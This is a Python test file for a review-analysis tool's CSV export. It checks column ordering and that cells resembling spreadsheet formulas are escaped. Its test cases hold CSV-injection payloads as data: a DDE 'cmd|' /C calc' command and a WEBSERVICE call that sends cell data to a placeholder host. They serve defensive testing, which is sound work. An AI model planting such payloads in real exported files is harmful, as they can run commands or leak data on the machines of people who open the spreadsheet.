"""The result files' rendering: column order, the input's own columns, and CSV formula safety."""

from __future__ import annotations

import csv
import io

import pytest
from reviewpulse.analysis.engines.base import EngineParts
from reviewpulse.analysis.engines.registry import engine_for
from reviewpulse.analysis.options import AnalysisOptions
from reviewpulse.results.export import ANALYSIS_COLUMNS, ResultsWriter, safe_cell
from reviewpulse.results.model import AspectResult, ItemError, ItemResult, ThemeResult
from reviewpulse.settings import Settings


def written(options: AnalysisOptions, input_columns, rows) -> tuple[list[list[str]], list[ItemResult]]:
    """Write (result, source columns) pairs; the CSV rows and the JSONL results read back."""
    jsonl_file, csv_file = io.BytesIO(), io.BytesIO()
    # The task's own engine names its extra columns (llm and auto: the detected language).
    engine = engine_for(options, EngineParts(Settings()))
    writer = ResultsWriter(jsonl_file, csv_file, options, engine, input_columns)
    for result, source_columns in rows:
        writer.write(result, source_columns)
    writer.close()
    csv_rows = list(csv.reader(io.StringIO(csv_file.getvalue().decode("utf-8"), newline="")))
    jsonl = [ItemResult.model_validate_json(line) for line in jsonl_file.getvalue().splitlines()]
    return csv_rows, jsonl


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-0.4019", "-0.4019"),
        ("+12", "+12"),
        ("plain text", "plain text"),
        ("", ""),
        # a sign followed by a call anywhere in the cell, or a DDE link
        ('+1+WEBSERVICE("http://x/"&A2)', '\'+1+WEBSERVICE("http://x/"&A2)'),
        ("-2+3|x", "'-2+3|x"),
        # what some importers trim before they look
        (" =1+1", "' =1+1"),
        ("\t=1+1", "'\t=1+1"),
        # text that only starts like a formula stays as written: handles, bullets, arithmetic
        ("@united thanks for nothing (again)", "@united thanks for nothing (again)"),
        ("- fast delivery, + good price", "- fast delivery, + good price"),
        ("-2+3", "-2+3"),
        ("+1 for the staff", "+1 for the staff"),
    ],
)
def test_csv_cells_cannot_become_formulas_that_call_something(cell, safe):
    assert safe_cell(cell) == safe


def test_escaping_off_writes_every_cell_as_the_input_has_it():
    # Given a task that asked for no formula escaping, and a row whose cells start like formulas
    options = AnalysisOptions(csv_escape_formulas=False)
    result = ItemResult(row=1, id="r1", label="negative", score=-0.5, confidence=0.8, engine="lexicon")
    source = {"text": "@united =SUM(A1) lost my bag", "note": "=cmd|' /C calc'!A0"}
    # When its results are written
    (header, row), _ = written(options, ["text", "note"], [(result, source)])
    # Then the input's cells are exactly as they came
    cells = dict(zip(header, row, strict=True))
    assert (cells["text"], cells["note"]) == (source["text"], source["note"])


def test_the_input_columns_come_first_then_the_analysis_then_what_the_options_asked_for():
    # Given an LLM task with an aspect and a report, over a file that has its own sentiment_label column
    options = AnalysisOptions(engine="llm", aspects=["price"], report=True)
    result = ItemResult(
        row=1,
        id="r1",
        label="negative",
        score=-0.5,
        confidence=0.8,
        engine="llm",
        language="de",
        aspects=[AspectResult(aspect="price", label="negative", evidence="=too dear")],
        themes=[ThemeResult(theme="cost", polarity="complaint")],
    )
    source = {"text": "=cmd()", "sentiment_label": "theirs"}

    # When its results are written
    (header, row), jsonl = written(options, ["text", "sentiment_label"], [(result, source)])

    # Then the input's columns come first, ours after them (renamed where the input has the name)
    assert header[:2] == ["text", "sentiment_label"]
    assert header[2:8] == ["reviewpulse_sentiment_label", *ANALYSIS_COLUMNS[1:]]
    assert header[8:] == ["sentiment_language", "aspect_price", "aspect_price_evidence", "themes"]
    # And each cell is the input's own or the result's, escaped where it could run as a formula
    cells = dict(zip(header, row, strict=True))
    assert cells["text"] == safe_cell(source["text"]) != source["text"]
    assert cells["sentiment_label"] == "theirs"
    assert (cells["reviewpulse_sentiment_label"], cells["sentiment_score"]) == ("negative", str(result.score))
    assert cells["sentiment_language"] == "de"
    assert (cells["aspect_price"], cells["aspect_price_evidence"]) == ("negative", "'=too dear")
    assert cells["themes"] == "cost (complaint)"
    # And the JSONL line is the result itself
    assert jsonl == [result]


def test_without_input_columns_each_row_starts_with_the_item_id_and_an_error_fills_its_columns():
    # Given a text task whose second item failed
    results = [
        ItemResult(row=1, id="a", label="positive", score=0.4, confidence=0.9, engine="lexicon"),
        ItemResult(row=2, id="b", error=ItemError(code="empty-text", detail="the text is empty")),
    ]

    # When the results are written
    (header, *rows), jsonl = written(AnalysisOptions(), None, [(r, None) for r in results])

    # Then the rows are the ids with the analysis columns, one per item, in order
    assert header == ["id", *ANALYSIS_COLUMNS]
    assert [dict(zip(header, row, strict=True)) for row in rows] == [
        {"id": "a", **dict(zip(ANALYSIS_COLUMNS, ["positive", "0.4", "0.9", "lexicon", "", ""], strict=True))},
        {"id": "b", **dict(zip(ANALYSIS_COLUMNS, ["", "", "", "", "empty-text", "the text is empty"], strict=True))},
    ]
    assert jsonl == results
